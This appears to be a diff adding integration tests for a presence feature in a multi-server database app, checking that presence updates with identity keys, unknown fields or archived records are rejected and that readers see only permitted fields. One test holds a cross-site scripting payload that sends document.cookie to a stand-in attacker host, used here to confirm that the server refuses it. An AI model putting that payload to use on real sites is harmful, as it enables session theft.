@@ -1,6 +1,11 @@
 // Presence on records across two servers of one database (issue 22 §2): who has a record open, the field they type
-// in, the saves of a record one has open, and a closed tab gone within 30 s.
+// in, the saves of a record one has open, and a closed tab gone within 30 s. A beat names a field of the record its
+// sender sees (over every catalogue type), on a live record its sender reads itself, and carries no identity.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { componentIdsOf } from '../../model/layout/merge.js';
+import type { DataSchema } from '../../model/metaSchema.js';
+import { isHiddenFrom } from '../../model/propertyVisibility.js';
+import { hasAnyRight, RIGHT_FLAGS, typeRightsOf } from '../../model/rights.js';
 import { ApiClient, userWith } from './client.js';
 import { ADMIN, startTwoServers, type RunningServer } from '../support/startServer.js';
 import { openStream, type Stream } from '../support/attacker.js';
@@ -144,4 +149,88 @@ describe('presence across servers', () => {
     await alice.del(`${presencePath(id)}?tab=${tab}`);
     await until(() => (news().length === 4 ? true : undefined));
   }, 40_000);
+
+  it('refuses in French a beat carrying an identity or any other key, and one on a missing or archived record', async () => {
+    for (const extra of [{ userId: 'quelqu-un-d-autre' }, { name: 'Directeur' }, { initials: 'XX' }]) {
+      const res = await alice.put(presencePath(), { tab: tabA, ...extra });
+      expect(res.status, JSON.stringify(extra)).toBe(400);
+      expect(res.body.message).toBe(`Requête invalide : corps « ${Object.keys(extra)[0]} » n'est pas attendu`);
+    }
+    const html = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"><b>${'x'.repeat(160)}</b>`;
+    const markup = await alice.put(presencePath(), { tab: tabA, field: html, typing: true });
+    expect(markup.status).toBe(400);
+    expect(markup.body).toMatchObject({ error: 'BAD_FIELD', fields: { field: 'Champ inconnu de ce type' } });
+    expect(
+      (await admin.get(`/api/${SITE}/presence/TextContent?ids=${recordId}`)).body.records[recordId]?.some((v: { field: string }) => v.field === html),
+    ).not.toBe(true);
+
+    const missing = await alice.put(presencePath('inexistant-presence'), { tab: tabA });
+    expect(missing.status).toBe(404);
+    expect(missing.body.message).toBe('Enregistrement introuvable');
+    const archived = (await admin.post(`/api/${SITE}/data/TextContent`, { label: 'Page archivée' })).body._id as string;
+    expect((await admin.del(`/api/${SITE}/data/TextContent/${archived}`)).status).toBe(200);
+    expect((await alice.put(presencePath(archived), { tab: tabA })).status).toBe(404);
+  });
+
+  it("asks for the records' read: a user who reads a type's labels only through a reference is not on its records", async () => {
+    const schemas: DataSchema[] = (await admin.get('/api/global/data/schema?limit=1000')).body.data;
+    const rights = typeRightsOf(schemas);
+    const onSite = schemas.filter((t) => t.storedInInstanceDatabase !== false && t.hasAssociatedDBCollection !== false);
+    const pairs = onSite.flatMap((t) =>
+      RIGHT_FLAGS.filter((f) => {
+        const r = rights.get(t._id)!;
+        return r.labels.has(f) && !hasAnyRight({ _id: 'x', login: 'x', rights: { [f]: true } }, r.full);
+      }).map((flag) => ({ type: t._id, flag })),
+    );
+    let checked = 0;
+    const readers = new Map<string, ApiClient>();
+    for (const { type, flag } of pairs) {
+      const id = (await admin.get(`/api/${SITE}/data/${type}?limit=1`)).body.data?.[0]?._id;
+      if (!id) continue;
+      if (!readers.has(flag)) readers.set(flag, await userWith(admin, { rights: { [flag]: true } }));
+      const reader = readers.get(flag)!;
+      expect((await reader.get(`/api/${SITE}/data/${type}/${id}`)).status, `${type} en ${flag}`).toBe(200);
+      const beat = await reader.put(`/api/${SITE}/presence/${type}/${id}`, { tab: 'onglet-etiquettes' });
+      expect(beat.status, `${type} en ${flag}`).toBe(403);
+      checked++;
+    }
+    expect(checked).toBeGreaterThan(0);
+  });
+
+  it('takes as field, over every catalogue type, each property its sender sees (or a component of a layout), and nothing else', async () => {
+    const me = (await admin.get('/api/auth/me')).body;
+    const other = await userWith(admin, { superAdmin: true });
+    const schemas: DataSchema[] = (await admin.get('/api/global/data/schema?limit=1000')).body.data;
+    const mismatches: string[] = [];
+    let types = 0;
+    for (const schema of schemas.filter((t) => t.storedInInstanceDatabase !== false && t.hasAssociatedDBCollection !== false)) {
+      const record = (await admin.get(`/api/${SITE}/data/${schema._id}?limit=1`)).body.data?.[0];
+      if (!record) continue;
+      types++;
+      const path = `/api/${SITE}/presence/${schema._id}/${record._id}`;
+      const tab = `onglet-types-${schema._id}`.slice(0, 64);
+      /** `seen`: what the others are shown, read for one field of each type and the layouts' components. */
+      const beat = async (field: string, expected: number, seen?: string) => {
+        const res = await admin.put(path, { tab, field, typing: true });
+        if (res.status !== expected) return mismatches.push(`${schema._id} « ${field} » : ${res.status}, attendu ${expected}`);
+        if (seen === undefined) return;
+        const viewers = (await other.get(`${path.replace(`/${record._id}`, '')}?ids=${record._id}`)).body.records[record._id] ?? [];
+        if (!viewers.some((v: { field: string }) => v.field === seen)) mismatches.push(`${schema._id} « ${field} » : vu ${JSON.stringify(viewers)}`);
+      };
+      const shown = schema.propertiesList.filter((p) => !isHiddenFrom(p, me));
+      for (const prop of schema.propertiesList) await beat(prop.key, shown.includes(prop) ? 200 : 400, prop === shown[0] ? prop.key : undefined);
+      for (const prop of shown.filter((p) => p.type === 'layout')) {
+        const [component] = componentIdsOf(record[prop.key]);
+        if (component) await beat(`${prop.key}/${component}`, 200, `${prop.key}/${component}`);
+        await beat(`${prop.key}/pas-encore-enregistre`, 200, prop.key);
+        await beat(`${prop.key}/<i>x</i>`, 400);
+      }
+      const plain = shown.find((p) => p.type !== 'layout');
+      if (plain) await beat(`${plain.key}/composant`, 400);
+      await beat('champInconnu', 400);
+      await admin.del(`${path}?tab=${tab}`);
+    }
+    expect(types).toBeGreaterThan(10);
+    expect(mismatches).toEqual([]);
+  }, 120_000);
 });
